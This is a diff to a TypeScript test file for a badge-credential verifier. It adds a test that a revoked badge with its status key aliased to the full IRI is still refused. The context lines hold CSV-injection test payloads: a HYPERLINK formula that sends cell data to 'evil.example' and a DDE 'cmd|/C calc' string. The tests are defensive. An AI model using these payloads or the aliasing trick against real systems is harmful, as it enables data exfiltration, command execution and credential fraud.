@@ -179,6 +179,24 @@ describe('the issue’s attacks on recognition', () => {
     expect((refused as Error).message).toContain('/rule/allOf/1/of/1 ERR_OB_STATUS_REVOKED')
   })
 
+  it('a revoked badge whose "credentialStatus" key is renamed to its full IRI (same RDF, proof still valid) earns no PD hours', async () => {
+    const status = await districtStatus()
+    const id = credentialId()
+    const badge = (await memberBadge({ id, template: gestures, credentialStatus: await status.allocate(id) })) as unknown as Record<string, unknown>
+    await changeStatus(status.store, { credentialId: id, action: 'revoke', reason: 'Plagiarised evidence' })
+    const { credentialStatus, ...rest } = badge
+    const aliased = { ...rest, 'https://www.w3.org/2018/credentials#credentialStatus': credentialStatus }
+    const options = { trust: await districtTrust(), verifyOptions: { now: NOW, statusLists: await status.lists() } }
+    for (const [input, code] of [
+      [badge, 'ERR_OB_STATUS_REVOKED'],
+      [aliased, 'ERR_OB_JSONLD_INVALID'],
+    ] as const) {
+      const report = await recognitionReport([input as never], [PD], options)
+      expect(report.educators).toEqual([])
+      expect(report.excluded).toEqual([expect.objectContaining({ code })])
+    }
+  })
+
   it('report --csv neutralises formula cells and quotes CR, LF, commas and quotes (RFC 4180)', async () => {
     const hostile = '=HYPERLINK("https://evil.example/?"&A1,"click")'
     const trust = parseTrustList({ issuers: [{ id: (await issuer('EdDSA', 'district')).key.issuerId, name: '@SUM(1+1)*cmd|" /C calc"!A0' }] })
